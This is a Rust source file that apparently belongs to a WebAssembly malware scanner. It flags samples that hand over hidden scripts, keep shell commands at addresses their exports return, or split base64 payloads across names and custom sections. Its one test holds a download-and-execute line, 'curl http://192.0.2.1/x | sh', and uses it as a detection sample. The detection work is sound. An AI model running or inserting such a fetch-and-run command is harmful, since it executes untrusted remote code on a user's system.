//! Things that a sample carries to whoever calls it. One is a script that it handed over and that nobody sees
//! in its file. The other is what an export could give back, and did not: a command whose address stands in
//! its code.
//!
//! Names of functions may be no names but a text in pieces.
//!
//! The run looks at what exports returned (`sandbox::returned`), and rules speak of pages, commands and
//! programs. A script for itself is none of these: what makes scripts of other texts hands them over too. Of
//! such the words stand in what it was given or in its file.
//!
//! An export that gives one text for another argument, at another time, has the address of each in its code.
//!
//! Costs a search in the file for some words of each script, and one walk over the code of the exported
//! functions that return a number.

use std::collections::{BTreeSet, HashSet};

use base64::{
    Engine as _,
    alphabet::{STANDARD, URL_SAFE},
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};
use wasmparser::Operator;

use super::{
    correlations::{gives_data, text_of},
    limits::{CARRIED, LINE, LONG_NAME, NAME_PIECE, NAMES, NUMBERED, SECTION, WORD, WORDS},
    operators::for_each_operator,
    seen::Code,
    text,
    weights::Weighed,
};
use crate::{
    module::{FuncIndex, view},
    rules::Facts,
    sandbox::{Contents, Returned, Run, is_drivers},
};

/// Why what is handed over forbids CLEAN, if it does.
pub(super) fn lack(code: &Code<'_>) -> Option<String> {
    hidden(code.facts).or_else(|| could_give(code)).or_else(|| named(code.facts))
}

/// What names hold that are no names: a page, a script or a command, as it is or in base64, whole or in
/// pieces. Or a section that no runtime reads holds one.
fn named(facts: &Facts<'_>) -> Option<String> {
    let view = facts.view;
    let functions: Vec<&str> = view.functions.iter().filter_map(|one| one.name.as_deref()).collect();
    let exports: Vec<&str> = view.exports.iter().map(|export| &*export.name).collect();
    let imports: Vec<&str> = view.imports.iter().flat_map(|one| [&*one.module, &*one.name]).collect();
    let of_names = [("functions", functions), ("exports", exports), ("imports", imports)];
    let found = of_names.into_iter().find_map(|(of, names)| Some((of, spelled(&names)?)));
    if let Some((of, found)) = found {
        let text = text::quoted(&String::from_utf8_lossy(&found.bytes));
        return Some(format!("names of {of} hold a {}: {text}", found.contents));
    }
    let custom = view.sections.iter().filter(|section| section.is_custom);
    custom.filter_map(|section| Some((section, in_section(facts, section)?))).next().map(
        |(section, found)| {
            let text = text::quoted(&String::from_utf8_lossy(&found.bytes));
            format!("the section {} holds a {}: {text}", text::quoted(&section.name), found.contents)
        },
    )
}

/// What names hold, one of them alone or all pieces together. Such a piece may begin with its number.
fn spelled(names: &[&str]) -> Option<Returned> {
    let is_one = |found: &Returned| found.contents != Contents::Archive;
    let long = || names.iter().filter(|name| name.len() >= LONG_NAME).take(NAMES);
    let alone = long().find_map(|name| Returned::behind_layers(name.as_bytes()).filter(is_one));
    alone.or_else(|| {
        (0..=NUMBERED).find_map(|skipped| {
            let mut text = Vec::new();
            let pieces = names.iter().filter_map(|name| name.get(skipped..)).filter_map(of_base64);
            pieces.take(NAMES).for_each(|piece| text.extend(piece));
            Returned::of(text).filter(is_one)
        })
    })
}

/// What a section holds that no runtime reads.
fn in_section(facts: &Facts<'_>, section: &view::Section) -> Option<Returned> {
    let start = usize::try_from(section.offset).ok()?;
    let size = usize::try_from(section.size).ok()?.min(SECTION);
    let bytes = facts.wasm.get(start..)?;
    let bytes = bytes.get(..size).unwrap_or(bytes);
    // Its name stands before what it holds.
    let bytes = bytes.strip_prefix(&[section.name.len() as u8]).unwrap_or(bytes);
    let bytes = bytes.strip_prefix(section.name.as_bytes()).unwrap_or(bytes);
    Returned::behind_layers(bytes).filter(|found| found.contents != Contents::Archive)
}

/// The text that a name is in base64.
fn of_base64(name: &str) -> Option<Vec<u8>> {
    let config = GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent);
    let alphabet = if name.contains(['-', '_']) { &URL_SAFE } else { &STANDARD };
    if name.len() < NAME_PIECE {
        return None;
    }
    let text = GeneralPurpose::new(alphabet, config).decode(name).ok()?;
    text.iter().all(|byte| matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r')).then_some(text)
}

/// A script that was handed over, of whose words most stand neither in the file nor in what the host gave.
fn hidden(facts: &Weighed<'_>) -> Option<String> {
    let run = facts.run?;
    let mut scripts = run.returned.iter().filter(|one| one.contents == Contents::Script);
    let script = scripts.find(|one| is_hidden(facts, run, &String::from_utf8_lossy(&one.bytes)))?;
    let text = String::from_utf8_lossy(&script.bytes);
    Some(format!("it hands over a script that its file hides: {}", text::quoted(&text)))
}

fn is_hidden(facts: &Weighed<'_>, run: &Run, script: &str) -> bool {
    let words = script.split(|letter: char| !letter.is_ascii_alphanumeric());
    let words: BTreeSet<_> = words.filter(|word| word.len() >= WORD).take(WORDS).collect();
    let given = run.calls.iter().filter(|call| gives_data(facts, call));
    let given: Vec<_> =
        given.flat_map(|call| &call.args).filter_map(|arg| text_of(arg.points_at.as_ref()?)).collect();
    let is_known = |word: &&&str| {
        let word = **word;
        text::in_bytes(facts.wasm, word.as_bytes())
            || is_drivers(word)
            || given.iter().any(|text| text.contains(word))
    };
    !words.is_empty() && 2 * words.iter().filter(is_known).count() < words.len()
}

/// Why what exports could give back forbids CLEAN, if it does.
fn could_give(code: &Code<'_>) -> Option<String> {
    let facts: &Facts<'_> = code.facts;
    let module = code.module()?;
    let (mut walked, mut looked) = (HashSet::new(), HashSet::new());
    for export in facts.view.exports.iter().filter(|export| export.kind == view::ExternKind::Function) {
        let func = FuncIndex(export.index);
        let gives = |function: &view::Function| function.ty.contains("result i32");
        if !facts.view.function(func).is_some_and(gives) {
            continue;
        }
        if !walked.insert(func) {
            continue;
        }
        let mut found = None;
        for_each_operator(module, func, |_, operator| {
            if let Operator::I32Const { value } = *operator
                && found.is_none()
                && looked.len() < CARRIED
                && looked.insert(value)
            {
                found = command_at(facts, u64::from(value as u32));
            }
        });
        if let Some(command) = found {
            let (name, command) = (text::quoted(&export.name), text::quoted(&command));
            return Some(format!("the export {name} can give back a command: {command}"));
        }
    }
    None
}

/// The command that lies at an address before anything runs, if one does.
fn command_at(facts: &Facts<'_>, address: u64) -> Option<String> {
    let data = facts.view.data_at(facts.wasm, address)?;
    let data = data.get(..LINE).unwrap_or(data);
    let line = data.split(|byte| *byte == 0).next()?;
    let returned = Returned::of(line.to_vec()).filter(|found| found.contents == Contents::Command)?;
    String::from_utf8(returned.bytes).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{module::view::View, passes::Dynamic, verdict::weights::Weighed};

    #[test]
    fn a_command_is_found_at_its_address_and_nowhere_else() {
        let module = |address: u32| {
            let text = format!(
                r#"(module (memory 1) (data (i32.const 64) "nothing\00curl http://192.0.2.1/x | sh\00")
                    (func (export "f") (result i32) (i32.const {address})))"#
            );
            wat::parse_str(text).expect("a module")
        };
        for (address, is_one) in [(72, true), (64, false), (0, false), (99, false), (500, false)] {
            let wasm = module(address);
            let (view, dynamic) = (View::of(&wasm), Dynamic::default());
            let facts = Facts {
                wasm: &wasm,
                view: &view,
                run: None,
                dynamic: &dynamic,
                prediction: None,
                flows: None,
            };
            let weighed = Weighed::from(&facts);
            let found = lack(&Code::of(&weighed));
            assert_eq!(found.is_some(), is_one, "{address}: {found:?}");
        }
    }
}
